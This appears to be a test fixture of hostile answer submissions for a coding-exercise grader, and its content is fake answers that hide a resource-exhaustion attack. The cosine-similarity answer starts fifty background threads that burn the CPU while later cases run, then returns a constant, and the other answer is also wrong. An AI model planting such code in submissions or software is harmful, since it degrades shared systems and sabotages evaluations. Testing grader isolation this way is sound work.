"""Leaves threads that burn the processor behind its back, while later cases and exercises run."""

ANSWERS = {
    "cosine_similarity": """
import threading
import numpy as np

def burn():
    block = np.random.rand(300, 300)
    while True:
        block = block @ block / np.abs(block).max()

for _ in range(50):
    threading.Thread(target=burn, daemon=True).start()

def cosine_similarity(a, b):
    return 0.0
""",
    "score_matrix": "def score_matrix(queries, keys): return 0",
}
